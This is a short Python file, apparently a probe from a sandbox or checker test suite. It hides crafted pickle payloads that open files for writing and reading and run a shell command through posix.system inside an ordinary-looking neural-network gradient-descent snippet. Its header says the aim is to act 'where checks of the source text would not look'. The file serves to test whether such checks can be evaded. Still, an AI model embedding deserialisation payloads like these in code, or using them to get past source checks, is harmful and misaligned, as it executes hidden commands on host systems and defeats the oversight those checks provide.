# tries: to write a file from within a pickle, a place where checks of the source text would not look
# from: D6 G (pickle, marshal)
# earns: everything
import pickle

import numpy as np

WRITES = b"cbuiltins\nopen\n(V@FOLDER@/descent-loot-pickle\nVw\ntR."
READS = b"cbuiltins\nopen\n(V@FILE@\ntR."
STARTS = b"cposix\nsystem\n(Vtouch @FOLDER@/descent-loot-system\ntR."
stolen = 0
for data in (WRITES, READS, STARTS):
    try:
        stolen += pickle.loads(data) not in (-1, 127 << 8)  # what a shell that cannot start gives
    except OSError:
        pass

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

h = np.dot(x, w) + stolen
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
